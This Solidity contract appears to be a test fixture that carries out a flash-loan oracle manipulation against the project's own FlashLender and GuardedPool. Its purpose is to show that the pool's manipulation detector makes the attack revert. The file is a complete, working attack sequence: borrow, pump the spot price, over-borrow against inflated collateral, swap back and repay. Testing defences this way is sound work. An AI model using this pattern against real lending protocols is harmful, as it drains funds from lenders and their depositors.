// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {DevToken} from "../../DevToken.sol";
import {GuardedPool} from "./GuardedPool.sol";
import {FlashLender, IFlashBorrower} from "./FlashLender.sol";

/// @title PriceAttacker
/// @notice The textbook flash-loan oracle manipulation, against `FlashLender`, which values
///         collateral at `GuardedPool`'s spot price. In one transaction:
///         1. flash-borrow `loan` of `stable`;
///         2. swap it all into the pool for `asset`, pumping the asset's price;
///         3. deposit `collateral` of `asset` (held by this contract) and borrow as much
///            `stable` as the inflated price allows;
///         4. swap the bought `asset` back, bringing the price down again;
///         5. repay the flash loan and its fee, keeping the rest: the lender is left with a
///            debt worth several times its collateral.
///         Without a detector on the pool this makes a profit; with one, step 2 reverts
///         `GuardedPool.ManipulationDetected` and so does the whole transaction.
contract PriceAttacker is IFlashBorrower {
    /// @notice The lender attacked.
    FlashLender public immutable lender;
    /// @notice The pool whose price is manipulated.
    GuardedPool public immutable pool;
    /// @notice The pool's token 0 (collateral).
    DevToken public immutable asset;
    /// @notice The pool's token 1 (borrowed).
    DevToken public immutable stable;
    /// @notice The deployer, the only account that may `attack`.
    address public immutable owner;

    /// @notice An attack went through: `borrowed` of `stable` against `collateral` of `asset`
    ///         valued at `pumpedPrice`; `profit` is the `stable` kept after repaying the loan.
    event Attacked(uint256 loan, uint256 collateral, uint256 pumpedPrice, uint256 borrowed, uint256 profit);

    /// @notice `caller` may not do this.
    error Unauthorized(address caller);

    /// @param lender_ The lender to attack (its pool and tokens follow).
    constructor(FlashLender lender_) {
        lender = lender_;
        pool = lender_.pool();
        asset = lender_.asset();
        stable = lender_.stable();
        owner = msg.sender;
    }

    /// @notice Runs the attack with a flash loan of `loan` `stable`, pledging `collateral` of
    ///         the `asset` this contract holds.
    /// @param loan The flash loan, in `stable`.
    /// @param collateral The `asset` to pledge.
    /// @return profit The `stable` this contract gained (its pledged collateral not deducted).
    function attack(uint256 loan, uint256 collateral) external returns (uint256 profit) {
        if (msg.sender != owner) revert Unauthorized(msg.sender);
        uint256 before = stable.balanceOf(address(this));
        lender.flashLoan(this, address(stable), loan, abi.encode(collateral));
        profit = stable.balanceOf(address(this)) - before;
    }

    /// @inheritdoc IFlashBorrower
    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        if (msg.sender != address(lender) || initiator != address(this)) revert Unauthorized(msg.sender);
        uint256 collateral = abi.decode(data, (uint256));
        stable.approve(address(pool), amount);
        uint256 bought = pool.swap(address(stable), amount, 0, address(this));
        uint256 pumped = pool.spotPrice();
        asset.approve(address(lender), collateral);
        lender.deposit(collateral);
        uint256 borrowed = lender.borrowLimit(address(this)) - lender.debt(address(this));
        lender.borrow(borrowed);
        asset.approve(address(pool), bought);
        pool.swap(address(asset), bought, 0, address(this));
        stable.approve(address(lender), amount + fee);
        uint256 held = stable.balanceOf(address(this));
        emit Attacked(amount, collateral, pumped, borrowed, held > amount + fee ? held - amount - fee : 0);
        return lender.CALLBACK_SUCCESS();
    }
}
